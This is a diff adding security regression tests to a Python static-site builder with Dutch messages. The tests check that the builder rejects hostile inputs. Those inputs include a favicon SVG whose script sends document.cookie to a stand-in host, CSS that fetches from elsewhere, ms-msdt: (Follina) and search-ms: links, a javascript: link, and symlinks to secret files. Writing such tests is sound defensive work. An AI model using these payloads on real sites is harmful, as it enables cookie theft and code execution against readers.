@@ -13,6 +13,7 @@ shows a Dutch refusal runs the command in-process (``run_cli``).
 from __future__ import annotations
 
 import copy
+import json
 import os
 import shutil
 import subprocess
@@ -53,6 +54,14 @@ def set_in_template(werkmap: Path, name: str, text: str, line: int = 3) -> None:
     target = werkmap / "templates" / name
     target.parent.mkdir(parents=True, exist_ok=True)
     target.write_text("\n".join(lines), encoding="utf-8")
+
+
+def icon(werkmap: Path, inside: str) -> None:
+    """A workspace copy of the site's icon with ``inside`` added in its <svg>."""
+    shipped = (ROOT / "templates" / "site" / "favicon.svg").read_text(encoding="utf-8")
+    target = werkmap / "templates" / "site" / "favicon.svg"
+    target.parent.mkdir(parents=True, exist_ok=True)
+    target.write_text(shipped.replace("</svg>", inside + "</svg>"), encoding="utf-8")
 
 
 def blok(werkmap: Path, text: str, name: str = "aanval.md") -> Path:
@@ -239,6 +248,36 @@ CASES = [
         "templates/html/document.html, regel 3: een getal wordt te groot",
         limited=True,
     ),
+    # A stylesheet of the web pages may not make every reader's browser fetch from elsewhere.
+    Case(
+        "colours-import-from-elsewhere",
+        lambda w, m: set_in_template(
+            w, "kleuren.css", "@import url(https://teller.example/t.css);"
+        ),
+        ("-f", "html"),
+        2,
+        "templates/kleuren.css, regel 3: dit stijlbestand haalt een bestand of adres van elders op",
+    ),
+    Case(
+        "style-fetches-behind-an-escape",
+        lambda w, m: set_in_template(
+            w, "html/stijl.css", "body { background: u\\72l(//teller.example/p.png); }", line=2
+        ),
+        ("-f", "html"),
+        2,
+        "templates/html/stijl.css, regel 2: dit stijlbestand haalt een bestand of adres",
+    ),
+    Case(
+        # The site serves the icon as a file: opened in a tab, a script in it would run.
+        "site-icon-with-a-script",
+        lambda w, m: icon(w, '<script>fetch("https://teller.example/" + document.cookie)</script>'),
+        ("-f", "site"),
+        2,
+        (
+            "Het pictogram van de website kan niet worden gebruikt.",
+            "templates/site/favicon.svg: 'favicon.svg' bevat een <script>-onderdeel",
+        ),
+    ),
     Case(
         "site-index-runs-code",
         lambda w, m: set_in_template(w, "site/versies.html", payload(m)),
@@ -344,6 +383,23 @@ CASES = [
         2,
         "content/aanval.md, regel 8: blok 'aanval': de link 'www.voorbeeld.nl' is geen "
         "volledig webadres; zet https:// ervoor: https://www.voorbeeld.nl.",
+    ),
+    Case(
+        # A published page is read by the public: a link that starts a program on the
+        # reader's computer (the Follina attack used ms-msdt:) has no place in it.
+        "link-that-starts-a-program",
+        lambda w, m: blok(w, "Tekst.\n\nLees [de handleiding](ms-msdt:/id%20PCWDiagnostic)."),
+        ("-f", "html"),
+        2,
+        "content/aanval.md, regel 8: blok 'aanval': de link 'ms-msdt:/id PCWDiagnostic' begint "
+        "met 'ms-msdt:'. Een link in het document mag alleen naar een webpagina",
+    ),
+    Case(
+        "autolink-that-opens-a-search",
+        lambda w, m: blok(w, "Tekst.\n\nZie <search-ms:query=factuur&crumb=location:\\\\x>."),
+        ("-f", "html"),
+        2,
+        "begint met 'search-ms:'",
     ),
     Case(
         "missing-picture-after-a-loop",
@@ -894,3 +950,71 @@ def test_build_files_nested_too_deeply_for_json_are_ignored(zkij):
     assert (zkij / "build" / CACHE_FILE).read_text(encoding="utf-8") != DEEP_JSON
     index = (zkij / "build" / "site" / "versies.json").read_text(encoding="utf-8")
     assert '"0.9"' in index and '"0.1"' not in index
+
+
+def test_a_version_folder_that_is_no_version_number_is_not_listed(zkij):
+    """build/site/ travels with a workspace and its folders become links on the site's
+    version list. A folder named like a script address, with a manifest that agrees, must
+    not become a link that runs a script on the published index page."""
+    from lxml import html as lxml_html
+
+    from regiovisie_builder.writers.site import versie_index
+
+    name = "javascript:alert(document.domain)"
+    planted = zkij / "build" / "site" / name
+    planted.mkdir(parents=True)
+    manifest = {"versie": name, "status": "definitief", "datum": "2099-01-01"}
+    manifest |= {"titel": "t", "regio": "r", "kenmerk": "k"}
+    (planted / versie_index.MANIFEST).write_text(json.dumps(manifest), encoding="utf-8")
+    outcome = run_cli("build", zkij, "-f", "site")
+    assert outcome.returncode == 0, outcome.stderr
+    site = zkij / "build" / "site"
+    index = lxml_html.fromstring((site / "index.html").read_bytes())
+    links = index.xpath("//a/@href")
+    assert "0.9/index.html" in links
+    assert not [a for a in links if "javascript" in a.lower()], links
+    listed = (site / versie_index.LIST).read_text(encoding="utf-8")
+    assert '"nieuwste": "0.9"' in listed and "javascript" not in listed
+
+
+def test_a_link_in_an_older_site_version_does_not_copy_a_file_from_outside(zkij, tmp_path):
+    """When an older version in build/site/ is the newest, latest/ is copied from its folder.
+    build/ travels with a workspace: a symbolic link in that folder to a file elsewhere on
+    the computer (an SSH key) must not be copied into the site as a real file."""
+    from regiovisie_builder.writers.site import versie_index
+
+    secret = tmp_path / "geheim.txt"
+    secret.write_text("GEHEIM", encoding="utf-8")
+    newest = zkij / "build" / "site" / "99.0"
+    newest.mkdir(parents=True)
+    manifest = {"versie": "99.0", "status": "definitief", "datum": "2099-01-01"}
+    manifest |= {"titel": "t", "regio": "r", "kenmerk": "k"}
+    (newest / versie_index.MANIFEST).write_text(json.dumps(manifest), encoding="utf-8")
+    (newest / "sleutel.txt").symlink_to(secret)
+    outcome = run_cli("build", zkij, "-f", "site")
+    assert outcome.returncode == 0, outcome.stderr
+    latest = zkij / "build" / "site" / versie_index.NEWEST
+    assert (latest / versie_index.MANIFEST).is_file()  # latest/ is the newest version, 99.0
+    assert not (latest / "sleutel.txt").exists()
+    assert not [p for p in latest.rglob("*") if p.is_file() and b"GEHEIM" in p.read_bytes()]
+
+
+@pytest.mark.parametrize("place", ["latest", "index.html"])
+def test_a_link_out_of_the_site_folder_writes_no_half_site(zkij, tmp_path, place):
+    """build/site/latest (or the index page) as a link to a folder outside the workspace is
+    refused; the message says nothing was written, and that is true: the version folder was
+    written before the link was found."""
+    outside = tmp_path / "elders"
+    outside.mkdir()
+    (outside / "bewaar.txt").write_text("x", encoding="utf-8")
+    site = zkij / "build" / "site"
+    site.mkdir(parents=True)
+    (site / place).symlink_to(outside if place == "latest" else outside / "bewaar.txt")
+    outcome = run_cli("build", zkij, "-f", "site")
+    assert outcome.returncode == 2, outcome.stderr
+    assert (
+        "ligt buiten de werkmap" in outcome.stderr and "Er is niets geschreven." in outcome.stderr
+    )
+    assert sorted(p.name for p in site.iterdir()) == [place]
+    assert sorted(p.name for p in outside.iterdir()) == ["bewaar.txt"]
+    assert (outside / "bewaar.txt").read_text(encoding="utf-8") == "x"
